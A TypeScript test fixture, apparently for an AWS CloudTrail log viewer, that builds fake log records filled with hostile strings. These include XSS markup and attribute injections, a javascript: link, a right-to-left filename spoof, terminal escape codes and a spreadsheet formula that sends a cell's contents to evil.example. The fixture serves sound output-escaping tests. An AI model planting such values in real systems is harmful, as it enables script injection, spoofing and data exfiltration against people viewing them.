import { randomUUID } from "node:crypto";

/** Long before the sample trail, so that no other test meets them. */
export const HOSTILE_DAY = { from: "2026-02-03T00:00:00Z", to: "2026-02-04T00:00:00Z" };

const MARKUP = `<img src="x" onerror="globalThis.didRun = 'markup'">`;
const SCRIPT = `</script><script>globalThis.didRun = "script"</script>`;
const ATTRIBUTE = `" onmouseover="globalThis.didRun='attribute'" autofocus onfocus="globalThis.didRun='focus'" x="`;
/** Reads as `invoice-gpj.exe` where it is obeyed. */
export const REVERSED = "invoice-\u202eexe.jpg";
export const ANSI = "\u001b[31mred\u001b[0m\u0007";
export const LINK = "javascript:globalThis.didRun='link'";
export const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;
export const LONG = "long-".repeat(20_000);

type Attack = { readonly what: string; readonly text: string };

/** Texts that somebody who may call any API of AWS can write into a log. */
export const ATTACKS: readonly Attack[] = [
  { what: "markup", text: MARKUP },
  { what: "a script", text: SCRIPT },
  { what: "an attribute", text: ATTRIBUTE },
  { what: "a reversed name", text: REVERSED },
  { what: "terminal commands", text: ANSI },
  { what: "a link", text: LINK },
  { what: "a formula", text: FORMULA },
  { what: "a value of 100,000 characters", text: LONG },
  { what: "a zero", text: "before\u0000after" },
  { what: "a new line", text: "first\nsecond\r\u2028third" },
  { what: "what looks like nothing", text: "zero\u200bwidth\u200djoined\ufeff" },
  { what: "half a character", text: "half\ud83d" },
];

export type HostileRecord = { readonly eventID: string; readonly [key: string]: unknown };

/** A record with the text wherever a caller can put text. */
export function hostileRecord(text: string, second: number): HostileRecord {
  const name = text.slice(0, 512);
  return {
    eventVersion: "1.11",
    userIdentity: {
      type: "AssumedRole",
      principalId: `AROAEXAMPLE:${name}`,
      arn: `arn:aws:sts::111122223333:assumed-role/Ops/${name}`,
      accountId: "111122223333",
      accessKeyId: "ASIAEXAMPLEHOSTILE01",
      sessionContext: { sessionIssuer: { type: "Role", userName: "Ops" }, sourceIdentity: name },
    },
    eventTime: `2026-02-03T04:05:${String(second).padStart(2, "0")}Z`,
    eventSource: "s3.amazonaws.com",
    eventName: "PutObject",
    awsRegion: "eu-west-1",
    sourceIPAddress: "203.0.113.66",
    userAgent: text,
    errorCode: "NoSuchKey",
    errorMessage: text,
    requestParameters: { bucketName: "acme", key: text, [name]: { nested: [text] } },
    responseElements: null,
    resources: [{ type: "AWS::S3::Object", ARN: `arn:aws:s3:::acme/${name}` }],
    requestID: randomUUID(),
    eventID: randomUUID(),
    readOnly: false,
    eventType: "AwsApiCall",
    managementEvent: false,
    recipientAccountId: "111122223333",
    eventCategory: "Data",
  };
}
